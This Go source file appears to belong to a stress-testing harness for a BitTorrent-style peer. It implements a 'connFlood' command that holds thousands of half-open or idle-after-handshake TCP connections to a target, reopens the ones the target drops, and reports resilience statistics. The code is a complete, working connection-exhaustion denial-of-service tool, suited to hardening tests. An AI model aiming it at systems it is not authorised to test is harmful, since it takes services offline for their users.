package main

import (
	"context"
	"crypto/rand"
	"errors"
	"flag"
	"fmt"
	"net"
	"net/netip"
	"sync"
	"syscall"
	"time"

	"github.com/btfs/btfs/swarm/metainfo"
	"github.com/btfs/btfs/swarm/wire"
)

// connFlood holds -n connections to the target open: half-open (no
// handshake sent) or idle (handshake done, then silence). It keeps no
// goroutine per connection: once a second a sweep drains what each
// connection received, without blocking, and notes the ones the target
// closed; with -refill they are opened again.
type connFlood struct {
	ctx    context.Context
	end    time.Time
	target netip.AddrPort
	bind   netip.Addr
	mi     *metainfo.MetaInfo // for the idle mode's handshake
	idle   bool
	st     *stats

	mu    sync.Mutex // between the dialers and the sweeping loop
	slots []net.Conn // nil: to be opened
}

func runConnFlood(name string, args []string) error {
	fs := flag.NewFlagSet(name, flag.ContinueOnError)
	var c common
	c.register(fs)
	n := fs.Int("n", 1100, "connections to hold open")
	mode := fs.String("mode", "half", "half (connect, never handshake) or idle (handshake, then silence)")
	refill := fs.Bool("refill", true, "open again the connections the target closes")
	dialers := fs.Int("dialers", 32, "connections opened at once")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if fs.NArg() != 0 {
		return fmt.Errorf("unexpected arguments %q", fs.Args())
	}
	if *mode != "half" && *mode != "idle" {
		return errors.New("-mode must be half or idle")
	}
	if *n < 1 || *n > 60000 || *dialers < 1 || *dialers > 1024 {
		return errors.New("-n must be 1..60000 and -dialers 1..1024")
	}
	p, err := c.parse(*mode == "idle", true)
	if err != nil {
		return err
	}
	ctx, cancel := attackContext(c.dur)
	defer cancel()
	f := &connFlood{ctx: ctx, end: time.Now().Add(c.dur), target: p.target, bind: p.bind, mi: p.mi,
		idle: *mode == "idle", st: newStats(), slots: make([]net.Conn, *n)}
	var maxOpen int64
	drain := make([]byte, 64<<10)
	for first := true; ctx.Err() == nil; first = false {
		if first || *refill {
			f.fill(*dialers)
		}
		maxOpen = max(maxOpen, f.sweep(drain))
		sleep(ctx, time.Second)
	}
	s := f.st.summary(name + "-" + *mode)
	s.OpenAtEnd = f.sweep(drain)
	s.MaxOpen = max(maxOpen, s.OpenAtEnd)
	for _, c := range f.slots {
		if c != nil {
			c.Close()
		}
	}
	printJSON(s)
	return nil
}

// fill opens every empty slot, dialers at a time, and returns when all
// are tried.
func (f *connFlood) fill(dialers int) {
	work := make(chan int)
	var wg sync.WaitGroup
	for range dialers {
		wg.Go(func() {
			d := net.Dialer{LocalAddr: net.TCPAddrFromAddrPort(netip.AddrPortFrom(f.bind, 0)), Timeout: 5 * time.Second}
			for i := range work {
				if c := f.open(&d); c != nil {
					f.mu.Lock()
					f.slots[i] = c
					f.mu.Unlock()
				}
			}
		})
	}
	f.mu.Lock()
	var empty []int
	for i, c := range f.slots {
		if c == nil {
			empty = append(empty, i)
		}
	}
	f.mu.Unlock()
	for _, i := range empty {
		select {
		case work <- i:
		case <-f.ctx.Done():
		}
	}
	close(work)
	wg.Wait()
}

// open makes one connection (and in idle mode, the handshake), or nil.
func (f *connFlood) open(d *net.Dialer) net.Conn {
	if f.ctx.Err() != nil {
		return nil
	}
	f.st.dials.Add(1)
	raw, err := d.DialContext(f.ctx, "tcp4", f.target.String())
	if err != nil {
		if f.ctx.Err() == nil {
			f.st.dialErrors.Add(1)
		}
		return nil
	}
	if !f.idle {
		return raw
	}
	conn := countConn{raw, f.st}
	_ = conn.SetDeadline(earlier(time.Now().Add(handshakeWait), f.end))
	hs := wire.Handshake{InfoHash: f.mi.InfoHash}
	copy(hs.PeerID[:], "-HO0001-")
	_, _ = rand.Read(hs.PeerID[8:])
	b, _ := hs.AppendBinary(nil)
	if _, err = conn.Write(b); err == nil {
		_, err = wire.ReadHandshake(conn)
	}
	if err != nil {
		switch {
		case f.ctx.Err() != nil:
		case timedOut(err):
			f.st.hsTimeouts.Add(1)
		default:
			f.st.refused.Add(1)
			f.st.markFirst(&f.st.firstRefused)
		}
		raw.Close()
		return nil
	}
	f.st.handshakes.Add(1)
	_ = conn.SetDeadline(time.Time{})
	return raw
}

// sweep drains each connection without blocking, closes and empties the
// slots of those the target closed, and returns how many are open.
func (f *connFlood) sweep(drain []byte) int64 {
	f.mu.Lock()
	defer f.mu.Unlock()
	var open int64
	for i, c := range f.slots {
		if c == nil {
			continue
		}
		if f.alive(c, drain) {
			open++
			continue
		}
		f.st.closedByPeer.Add(1)
		f.st.markFirst(&f.st.firstClosed)
		c.Close()
		f.slots[i] = nil
	}
	return open
}

// alive reads what c holds without waiting and reports whether the
// target still has it open.
func (f *connFlood) alive(c net.Conn, drain []byte) bool {
	sc, err := c.(*net.TCPConn).SyscallConn()
	if err != nil {
		return false
	}
	open := true
	err = sc.Read(func(fd uintptr) bool {
		for range 64 {
			n, _, err := syscall.Recvfrom(int(fd), drain, syscall.MSG_DONTWAIT)
			switch {
			case errors.Is(err, syscall.EAGAIN) || errors.Is(err, syscall.EINTR):
				return true
			case err != nil || n == 0:
				open = false
				return true
			}
			f.st.bytesRecv.Add(int64(n))
		}
		return true
	})
	return err == nil && open
}
